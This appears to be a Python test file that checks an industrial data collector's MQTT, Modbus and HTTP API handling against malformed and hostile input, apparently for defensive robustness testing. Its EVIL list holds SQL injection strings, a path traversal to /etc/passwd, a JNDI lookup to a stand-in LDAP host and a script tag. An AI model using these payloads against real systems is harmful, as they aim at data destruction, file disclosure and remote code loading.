"""Bad input from every side, through the real runtime: MQTT payloads of random bytes, 10 MB,
10,000-deep JSON and invalid UTF-8; Modbus devices that answer with exceptions, wrong lengths,
wrong transaction ids, half a frame, or never; API parameters that look like SQL or are
60 kB long. Each is counted and visible, never a crash or a 500, and the good data around it
keeps flowing. (The API's schema-driven fuzzing is tests/test_api_property.py.)"""

from __future__ import annotations

import asyncio
import logging
import random
import sqlite3
import struct
import time
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from collector.config import parse_config
from collector.ledger import Ledger
from collector.model import Reading
from collector.runtime import Runtime
from tests.kit.api import T0, make_env
from tests.kit.modbus import Device, sim_device
from tests.kit.mqtt import Mosquitto, Publisher
from tests.kit.waiting import wait_for
from tests.reliability.conftest import record

# --- MQTT ----------------------------------------------------------------------------------


def latest(db: Path, machine: str, tag: str) -> tuple[Any, int] | None:
    with sqlite3.connect(db, timeout=30) as conn:
        row = conn.execute(
            "SELECT coalesce(l.value, l.text), l.quality FROM latest_readings l "
            "JOIN series s ON s.id = l.series_id WHERE s.machine_id = ? AND s.tag = ?",
            (machine, tag)).fetchone()
    return None if row is None else (row[0], row[1])


async def test_hostile_mqtt_payloads_are_counted_and_good_ones_keep_flowing(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.WARNING)
    broker = Mosquitto(tmp_path / "broker").start()
    cfg = f"""
ledger: {{url: "sqlite:///{tmp_path}/ledger.db"}}
spool: {{path: {tmp_path}/spool.db}}
pipeline: {{flush_interval: 100ms}}
api: {{enabled: false}}
machines:
  - id: oven
    sources:
      - id: sensors
        protocol: mqtt
        broker: {broker.url}
        qos: 1
        tags:
          - {{name: v, topic: t/json, json: v}}
          - {{name: p, topic: t/plain}}
"""
    rng = random.Random(7)
    randoms = [b"\xff" + rng.randbytes(rng.randrange(1, 200)) for _ in range(100)]
    hostile: list[tuple[str, bytes]] = [("t/json", b) for b in randoms]
    hostile += [("t/plain", b) for b in randoms]
    hostile += [("t/json", b"{\"v\": " + b"7" * (10 * 2**20) + b"}")] * 2  # 10 MB
    hostile += [("t/json", b"[" * 10_000 + b"]" * 10_000),
                ("t/json", b"{\"v\": " * 10_000 + b"1" + b"}" * 10_000),
                ("t/json", b"{\"v\": \"\xc3\x28\"}"), ("t/plain", b"\xed\xa0\x80 12")]
    rt = Runtime(parse_config(cfg))
    try:
        await rt.start()
        health = rt.health_of("oven", "sensors")
        await wait_for(lambda: health.connected, 15, "connected")
        with Publisher(broker.port) as pub:
            started = time.monotonic()
            for topic, payload in hostile:
                await asyncio.to_thread(pub.publish, topic, payload)
            await asyncio.to_thread(pub.publish, "t/json", b'{"v": 42}')
            await asyncio.to_thread(pub.publish, "t/plain", b"7")
        db = tmp_path / "ledger.db"
        await wait_for(lambda: latest(db, "oven", "v") == (42.0, 0)
                       and latest(db, "oven", "p") == (7.0, 0), 60, "the good messages")
        took = time.monotonic() - started
        bad = health.extra.get("bad_payloads_total")
    finally:
        await rt.stop()
        broker.stop()
    tracebacks = [r for r in caplog.records if r.exc_info]
    record("mqtt_hostile_payloads", hostile=len(hostile), bad_payloads_counted=bad,
           errors=health.errors, seconds=round(took, 1))
    assert bad == len(hostile), health.extra
    assert health.errors >= len(hostile) and health.connected
    assert not tracebacks, tracebacks[0].getMessage()


# --- Modbus --------------------------------------------------------------------------------

MODES = ("exception", "byte_count", "frame_length", "wrong_tid", "partial", "silent")
VALUE = 1234


class MisbehavingDevice:
    """A Modbus TCP device written by hand that answers holding-register reads as `mode` says:
    `good`, an exception (04), a byte count that does not match the request, a frame whose
    MBAP length disagrees with its body, the wrong transaction id, half a frame, or nothing."""

    def __init__(self, mode: str):
        self.mode = mode
        self.port = 0
        self.server: asyncio.Server | None = None
        self.requests = 0

    async def start(self) -> MisbehavingDevice:
        self.server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.port = self.server.sockets[0].getsockname()[1]
        return self

    async def stop(self) -> None:
        if self.server is not None:
            self.server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                tid, _, length, unit = struct.unpack(">HHHB", await reader.readexactly(7))
                pdu = await reader.readexactly(length - 1)
                self.requests += 1
                fc, (_, count) = pdu[0], struct.unpack(">HH", pdu[1:5])
                mode = self.mode
                data = struct.pack(f">{count}H", *([VALUE] * count))
                body = bytes([fc, len(data)]) + data
                if mode == "silent":
                    continue
                if mode == "exception":
                    body = bytes([fc | 0x80, 0x04])
                elif mode == "byte_count":
                    body = bytes([fc, len(data) + 2]) + data + b"\0\0"
                if mode == "wrong_tid":
                    tid = (tid + 7) % 65536
                frame = struct.pack(">HHHB", tid, 0, len(body) + 1, unit) + body
                if mode == "frame_length":
                    frame = struct.pack(">HHHB", tid, 0, len(body) - 1, unit) + body
                if mode == "partial":
                    frame = frame[: len(frame) // 2]
                writer.write(frame)
                await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError):
            writer.close()


def modbus_source(machine: str, port: int) -> str:
    return f"""
  - id: {machine}
    sources:
      - id: io
        protocol: modbus
        host: 127.0.0.1
        port: {port}
        interval: 100ms
        timeout: 300ms
        reconnect_delay: 100ms
        reconnect_delay_max: 500ms
        tags:
          - {{name: a, register: holding, address: 0, type: uint16}}
"""


async def test_misbehaving_modbus_devices_are_bad_data_and_errors_never_a_stall(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.WARNING)
    devices = {mode: await MisbehavingDevice(mode).start() for mode in MODES}
    good = await Device([sim_device(1)]).start()
    await good.set("holding", 0, [VALUE])
    machines = "".join(modbus_source(m, d.port) for m, d in devices.items())
    cfg = f"""
ledger: {{url: "sqlite:///{tmp_path}/ledger.db"}}
spool: {{path: {tmp_path}/spool.db}}
pipeline: {{flush_interval: 100ms}}
api: {{enabled: false}}
machines:{machines}{modbus_source("good", good.port)}"""
    db = tmp_path / "ledger.db"
    rt = Runtime(parse_config(cfg))
    recovered: dict[str, float] = {}
    try:
        await rt.start()
        steady = rt.health_of("good", "io")
        await wait_for(lambda: steady.connected, 15, "the good device read")
        first = int(steady.extra.get("scans", 0))  # type: ignore[call-overload]
        began = time.monotonic()
        await asyncio.sleep(3.0)
        elapsed = time.monotonic() - began
        scans = int(steady.extra.get("scans", 0)) - first  # type: ignore[call-overload]
        await rt.pipeline.flush()
        during = {m: rt.health_of(m, "io") for m in MODES}
        errors = {m: h.errors for m, h in during.items()}
        messages = {m: h.last_error for m, h in during.items()}
        bad_latest = {m: latest(db, m, "a") for m in MODES}
        for d in devices.values():
            d.mode = "good"
        switched = time.monotonic()
        for mode in MODES:
            await wait_for(lambda mode=mode: latest(db, mode, "a") == (VALUE, 0), 20,  # type: ignore[misc]
                           f"{mode}: good again")
            recovered[mode] = round(time.monotonic() - switched, 1)
    finally:
        await rt.stop()
        for d in devices.values():
            await d.stop()
        await good.stop()
    record("modbus_misbehaving", errors=errors, recovered_s=recovered,
           good_scans=scans, good_expected=round(elapsed / 0.1), last_errors=messages)
    for mode in MODES:
        assert errors[mode] >= 2, (mode, errors)
        assert bad_latest[mode] is None or bad_latest[mode][1] == 2, (mode, bad_latest[mode])  # type: ignore[index]
        assert messages[mode] and "\n" not in messages[mode], messages  # type: ignore[operator]
    # the good device on the same box kept its schedule all along
    assert scans >= 0.8 * elapsed / 0.1, scans
    assert steady.errors == 0
    assert not [r for r in caplog.records if r.exc_info], "a traceback was logged"


# --- API parameters ------------------------------------------------------------------------

EVIL = ["' OR 1=1 --", "press07'; DROP TABLE readings; --", "\" OR \"\"=\"", "%00", "\x00",
        "1; SELECT pg_sleep(5)", "../../../../etc/passwd", "${jndi:ldap://x/a}", "<script>",
        "9" * 400, "-9" * 200, "1e309", "NaN", "x" * 60_000]
ROUTES = [
    ("/api/v1/machines/{v}", {}),
    ("/api/v1/machines/{v}/latest", {}),
    ("/api/v1/machines/press07/states", {"start": "{v}"}),
    ("/api/v1/machines/press07/production", {"bucket": "{v}"}),
    ("/api/v1/machines/press07/oee", {"end": "{v}"}),
    ("/api/v1/machines/press07/downtimes", {"start": "{v}"}),
    ("/api/v1/readings", {"machine": "{v}", "tag": "motor_current"}),
    ("/api/v1/readings", {"machine": "press07", "tag": "{v}"}),
    ("/api/v1/readings", {"machine": "press07", "tag": "motor_current", "limit": "{v}"}),
    ("/api/v1/readings", {"machine": "press07", "tag": "motor_current", "cursor": "{v}"}),
    ("/api/v1/readings", {"machine": "press07", "tag": "motor_current", "format": "{v}"}),
    ("/api/v1/readings/aggregate", {"machine": "press07", "tag": "motor_current",
                                    "bucket": "{v}"}),
    ("/api/v1/readings/aggregate", {"machine": "press07", "tag": "motor_current",
                                    "tz": "{v}"}),
    ("/api/v1/ledger/daily", {"date": "{v}"}),
    ("/api/v1/ledger/daily", {"lang": "{v}"}),
]


async def test_sql_looking_and_oversized_parameters_are_4xx_and_touch_nothing(
        tmp_path: Path) -> None:
    ledger = Ledger(f"sqlite:///{tmp_path}/ledger.db")
    await ledger.open()
    try:
        rt, client = await make_env(ledger)
        await ledger.write([Reading("press07", "motor_current", T0 + i * 1_000_000, float(i))
                            for i in range(100)])
        statuses: dict[int, int] = {}
        async with client:
            for path, params in ROUTES:
                for evil in EVIL:
                    url = path.format(v=quote(evil, safe=""))
                    query = {k: v.format(v=evil) for k, v in params.items()}
                    response = await client.get(url, params=query)
                    statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
                    where = f"{url[:80]} {str(query)[:120]}"
                    assert response.status_code < 500, (where, response.text[:300])
                    if response.status_code >= 400:
                        body = response.json()
                        assert set(body) == {"detail"}, (where, body)
                        assert isinstance(body["detail"], str) and body["detail"], where
            after = (await client.get("/api/v1/readings", params={
                "machine": "press07", "tag": "motor_current", "start": 0})).json()
    finally:
        await ledger.close()
    record("api_hostile_parameters", requests=len(ROUTES) * len(EVIL),
           statuses={str(k): v for k, v in sorted(statuses.items())})
    assert [item["value"] for item in after["items"]] == [float(i) for i in range(100)]
